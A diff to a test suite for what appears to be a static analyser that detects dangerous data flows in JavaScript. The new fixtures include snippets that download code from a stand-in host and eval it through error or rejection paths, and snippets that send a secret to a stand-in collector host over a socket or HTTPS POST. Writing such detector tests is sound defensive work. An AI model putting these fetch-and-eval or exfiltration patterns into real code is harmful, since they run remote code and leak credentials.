@@ -154,4 +154,25 @@ describe('requests', () => {
     assert.deepEqual(flowsOf(`console.log(btoa(btoa(s)));`), ['credential-file>network']);
     assert.deepEqual(flowsOf(`console.log(s);`), []);
   });
+
+  it('that other code waits for tell what they failed with', () => {
+    const run = (code: string) => flowsOf(`const axios = require('axios'); ${code}`);
+    for (const code of [
+      `(async () => { try { await axios('https://load.invalid/a'); } catch (e) { eval(e.response.data); } })();`,
+      `new Promise((_, no) => fetch('https://load.invalid/a').then((r) => r.text()).then(no)).catch(eval);`,
+    ])
+      assert.deepEqual(run(code), ['downloaded>evaluated'], code);
+    assert.deepEqual(
+      run(`(async () => { try { await axios('https://api.invalid/a'); } catch (e) { console.error(e.message); } })();`),
+      [],
+    );
+  });
+
+  it('hand themselves on as what a callback is called on', () => {
+    for (const code of [
+      `new (require('net').Socket)().connect(8443, 'collect.invalid', function () { this.write(s); });`,
+      `https.request('https://collect.invalid', { method: 'POST' }, function () { this.end(s); });`,
+    ])
+      assert.ok(flowsOf(code).includes('credential-file>network@collect.invalid'), code);
+  });
 });
